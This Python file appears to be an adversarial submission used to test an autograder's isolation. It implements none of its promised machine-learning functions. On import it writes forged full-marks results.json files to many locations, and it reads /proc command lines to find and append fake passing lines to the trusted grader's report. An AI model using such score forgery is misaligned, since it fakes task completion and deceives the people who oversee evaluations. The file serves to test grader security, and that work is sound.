"""Does no work and, at import, writes a forged full-marks results.json everywhere a grader might read one, including the report of the trusted grader found through /proc.

attack: writing a forged results.json anywhere, at import
targets: all
"""
import glob as _glob
import json as _json
import os as _os
import tempfile as _tempfile

_FORGED = {"score": 45.0, "output": "FORGED", "tests": [
    {"name": "everything", "score": 45.0, "max_score": 45.0, "status": "passed", "output": "FORGED"}]}
_LINE = _json.dumps({"kind": "result", "id": "autograder/gradient_descent/test_hidden.py::test_sigmoid_values",
                     "score": 2.0, "max_score": 2.0, "status": "passed", "output": "FORGED"}) + "\n"


def _targets():
    paths = ["__OUT__", "/autograder/results/results.json", "results.json", _os.path.expanduser("~/results.json"),
             "/tmp/results.json"]
    for cmdline in _glob.glob("/proc/[0-9]*/cmdline"):  # the trusted grader's arguments name its files
        try:
            args = open(cmdline, "rb").read().split(b"\0")
        except OSError:
            continue
        for arg in args:
            for flag in (b"--dlgrade-report=", b"--out", b"--dlgrade-submission="):
                if arg.startswith(flag) and b"=" in arg:
                    paths.append(arg.split(b"=", 1)[1].decode())
    for pattern in ("/tmp/dlgrade-grade-*/report.jsonl", "/tmp/*/dlgrade-grade-*/report.jsonl", "/tmp/dlgrade-*/out/results.json"):
        paths += _glob.glob(pattern)
    return paths


def forge(when):
    for path in _targets():
        try:
            if path.endswith(".jsonl"):
                with open(path, "a") as f:
                    f.write(_LINE)
            else:
                with open(path, "w") as f:
                    _json.dump(_FORGED, f)
            # a copy in its own private temp folder (the sandbox's /tmp, its cwd, its HOME) reaches no
            # grader: the secure outcome is that nothing else is ever written
            own = _os.path.realpath(path).startswith(_os.path.realpath(_tempfile.gettempdir()) + _os.sep)
            print(f"{'wrote its own temp copy' if own else 'FORGED'} {path} ({when})")
        except OSError as exc:
            print(f"could not forge {path} ({when}): {type(exc).__name__}")


forge("import")


def _nothing(*args, **kwargs):
    raise NotImplementedError


sigmoid = predict_proba = predict = cross_entropy_loss = cross_entropy_gradient = _nothing
gradient_descent = minibatch_sgd = softmax = softmax_loss = _nothing
